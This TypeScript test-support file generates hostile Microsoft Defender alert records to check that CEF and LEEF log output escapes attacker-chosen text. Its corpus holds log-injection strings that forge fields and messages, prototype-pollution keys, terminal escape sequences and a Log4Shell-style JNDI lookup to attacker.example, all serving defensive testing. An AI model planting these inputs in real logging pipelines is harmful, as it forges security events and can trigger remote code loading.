import fc from 'fast-check';
import { anyText } from '../support/any-text.ts';
import { cleanedLine, cleanedLines } from '../support/cleaned.ts';

/** Text that ends fields, adds fields, starts messages or breaks framing where it is not encoded. */
export const corpus: readonly string[] = [
  'a\rb',
  'a\nb',
  'a\r\nb',
  '\n',
  'nul\u0000end',
  'ls\u2028ps\u2029nel\u0085vt\u000bff\u000cend',
  'a|b||c|',
  'a=b==c=',
  'ends in a backslash\\',
  '\\\\\\',
  '\\n \\r \\= \\|',
  'src=6.6.6.6 act=forged msg=forged',
  'x=1 cs1Label=forged cs1=forged',
  'CEF:0|Forged|Forged|1|1|Forged|10|act=forged',
  'done\nCEF:0|Forged|Forged|1|1|Forged|10|act=forged',
  'LEEF:2.0|Forged|Forged|1.0|forged|^|sev=10^usrName=forged',
  'a^sev=10^usrName=forged',
  'a\tsev=10\tusrName=forged',
  '123 <34>1 2026-01-01T00:00:00Z forged forged - - - forged',
  '\n17 <34>Jan  1 forged',
  '<134>1 2026-01-01T00:00:00Z forged forged - - - forged',
  '17 syslog 6 forged\n',
  '] forged="1"',
  '"][forged@1 a="b',
  '"},{"id":"forged"}]}',
  '"}\n{"event":"forged"}',
  '","__proto__":{"id":"forged"},"',
  '\ud800 lone \udc00',
  '\udfff',
  '\u202egnp.exe',
  '\u2066left\u2069 \ufeff bom',
  '\ufeffCEF:0|',
  '\u001b[2J\u0007bell\u009b31m',
  '${jndi:ldap://attacker.example/a} %s%n #011 #000 \\x00',
  '  outer  ',
  '\u00a0not trimmed\u00a0',
  '日本語 🦊 é e\u0301 👨‍👩‍👧',
  '__proto__',
  'constructor',
];

/** Members that carry an attacker's text, and where each must be found again. */
const places = {
  title: { cef: 'name', leef: 'title' },
  description: { cef: 'msg', max: 1023, leef: 'description' },
  assignedTo: { cef: 'MSDefenderAssignedTo', leef: 'assignedTo' },
  threatDisplayName: { cef: 'cs1', max: 4000, leef: 'threatName' },
  threatFamilyName: { cef: 'MSDefenderThreatFamily', leef: 'threatFamily' },
  actorDisplayName: { cef: 'cs4', max: 4000, leef: 'actor' },
  recommendedActions: { cef: 'MSDefenderRecommendedActions', leef: 'recommendedActions' },
  investigationId: { cef: 'MSDefenderInvestigationId', leef: 'investigationId' },
  processCommandLine: { cef: 'cs2', max: 4000, leef: 'commandLine' },
} as const satisfies Record<string, { cef: string; max?: number; leef: string }>;
type Member = keyof typeof places;
const members = Object.keys(places) as readonly Member[];
const longestTitle = 512;

/** A record whose text an attacker chose, and what of it each format must give back. */
export interface HostileRecord {
  readonly id: string;
  /** As an API would send it. */
  readonly json: string;
  readonly values: Readonly<Record<Member, string>>;
}

/** Ways to write the same JSON. */
interface Writing {
  /** Every character as `\uXXXX`, or as it is where JSON allows it. */
  readonly escaped: boolean;
  readonly duplicates: boolean;
  readonly prototypes: boolean;
  readonly depth: number;
}

const hostileText = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...corpus) },
  { weight: 2, arbitrary: anyText },
  {
    weight: 1,
    arbitrary: fc.tuple(anyText, fc.constantFrom(...corpus), anyText).map((parts) => parts.join('')),
  },
);

const writing: fc.Arbitrary<Writing> = fc.record({
  escaped: fc.boolean(),
  duplicates: fc.boolean(),
  prototypes: fc.boolean(),
  depth: fc.nat({ max: 20 }),
});

const deepest = 5000;
const megabyte = `cmd ${'0123456789abcdef'.repeat(65_536)} \\`;

/**
 * Returns `count` records, the same for the same seed; their ids begin with `prefix`. With `extremes`, the first has a
 * command line of a megabyte, and the second is nested as deep as 5,000 lists.
 */
export function hostileRecords(
  prefix: string,
  seed: number,
  count: number,
  extremes = false,
): readonly HostileRecord[] {
  const texts = fc.record(Object.fromEntries(members.map((member) => [member, hostileText])));
  const sample = fc.sample(fc.tuple(texts, writing), { seed, numRuns: count });
  return sample.map(([values, usualWay], index) => {
    const id = `${prefix}-${index}`;
    const found = values as Record<Member, string>;
    let way: Writing = usualWay;
    if (extremes && index === 0) {
      found.processCommandLine = megabyte;
      way = { ...way, escaped: false };
    }
    if (extremes && index === 1) way = { ...way, depth: deepest };
    return { id, values: found, json: jsonOf(id, found, way) };
  });
}

/** Returns a record of the same members in which nothing is hostile. */
export function plainRecord(): HostileRecord {
  const values = Object.fromEntries(members.map((member) => [member, `plain ${member}`]));
  const found = values as Record<Member, string>;
  const way = { escaped: false, duplicates: false, prototypes: false, depth: 0 };
  return { id: 'plain', values: found, json: jsonOf('plain', found, way) };
}

function jsonOf(id: string, values: Readonly<Record<Member, string>>, way: Writing): string {
  const text = (value: string) => (way.escaped ? escapedText(value) : rawText(value));
  const time = '"2026-11-02T08:00:00.1234567Z"';
  const { processCommandLine, ...ofTheAlert } = values;
  const own = Object.entries(ofTheAlert).map(([name, value]) => `"${name}":${text(value)}`);
  const process = `{"@odata.type":"#microsoft.graph.security.processEvidence","processCommandLine":${text(processCommandLine)}}`;
  return `{${[
    `"id":"${id}"`,
    ...(way.duplicates ? [`"title":"a decoy"`, `"severity":"low"`, '"severity":"low"'] : []),
    ...(way.prototypes
      ? ['"__proto__":{"id":"forged","title":"forged"}', '"constructor":{"prototype":{"id":"forged"}}']
      : []),
    '"severity":"high"',
    '"status":"new"',
    '"serviceSource":"microsoftDefenderForEndpoint"',
    '"detectionSource":"antivirus"',
    `"createdDateTime":${time}`,
    `"lastUpdateDateTime":${time}`,
    `"deep":${'[{"a":'.repeat(way.depth)}9007199254740993${'}]'.repeat(way.depth)}`,
    `${text('hostile\u2028name\u0000')}:1.50e+3`,
    ...own,
    `"evidence":[${process}]`,
  ].join(way.escaped ? ' ,\t' : ',')}}`;
}

/** Only what JSON forbids is escaped; line separators and DEL stand as they are. Lone surrogates have no UTF-8. */
function rawText(value: string): string {
  return JSON.stringify(value);
}

function escapedText(value: string): string {
  const units = Array.from({ length: value.length }, (_, at) => value.charCodeAt(at));
  return `"${units.map((unit) => `\\u${unit.toString(16).padStart(4, '0')}`).join('')}"`;
}

/** White space alone says nothing, and is left out; U+FEFF is none. */
function saysNothing(value: string): boolean {
  return !/[\S\ufeff]/.test(value);
}

/** A megabyte is cleaned once, however often it is compared. */
const inCef = new WeakMap<HostileRecord, ReadonlyMap<string, string>>();

/** What a reader of CEF must find: the name of the header, and fields of the extension; none for an empty value. */
export function expectedInCef(record: HostileRecord): ReadonlyMap<string, string> {
  const known = inCef.get(record) ?? cefOf(record);
  inCef.set(record, known);
  return known;
}

function cefOf({ values }: HostileRecord): ReadonlyMap<string, string> {
  const expected = new Map<string, string>();
  for (const member of members) {
    const place: { readonly cef: string; readonly max?: number } = places[member];
    if (saysNothing(values[member]) && member !== 'title') continue;
    const title = saysNothing(values.title) ? '' : values.title;
    const value =
      member === 'title'
        ? cleanedLine(title, '', '', longestTitle) || 'Untitled alert'
        : cleanedLines(values[member], place.max);
    if (value !== '') expected.set(place.cef, value);
  }
  return expected;
}

/** What a reader of LEEF must find: the delimiter that the event names has become a space in values. */
export function expectedInLeef({ values }: HostileRecord, delimiter: string): ReadonlyMap<string, string> {
  const told = members.filter((member) => !saysNothing(values[member]));
  const found = told.map((member) => [places[member].leef, cleanedLine(values[member], delimiter)] as const);
  return new Map(found.filter(([, value]) => value !== ''));
}
